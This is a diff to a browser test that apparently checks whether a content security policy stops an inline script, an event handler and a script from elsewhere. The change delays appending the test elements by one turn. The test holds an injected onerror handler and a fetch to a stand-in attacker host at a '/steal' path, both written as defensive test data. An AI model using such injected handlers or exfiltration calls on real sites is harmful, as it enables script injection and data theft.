@@ -49,7 +49,8 @@ test('an inline script, an event handler and a script from elsewhere do not run'
     const holder = document.createElement('div');
     holder.innerHTML =
       '<img src="data:," onerror="globalThis.ranHandler = true"><iframe src="https://evil.example"></iframe>';
-    document.body.append(script, holder);
+    // What the debugger does in its own turn is exempt from the policy, so the page does it a turn later.
+    setTimeout(() => document.body.append(script, holder), 0);
     await fetch('https://evil.example/steal').catch(() => undefined);
     await new Promise((resolve) => setTimeout(resolve, 500));
     const found = globalThis as unknown as Record<string, unknown>;
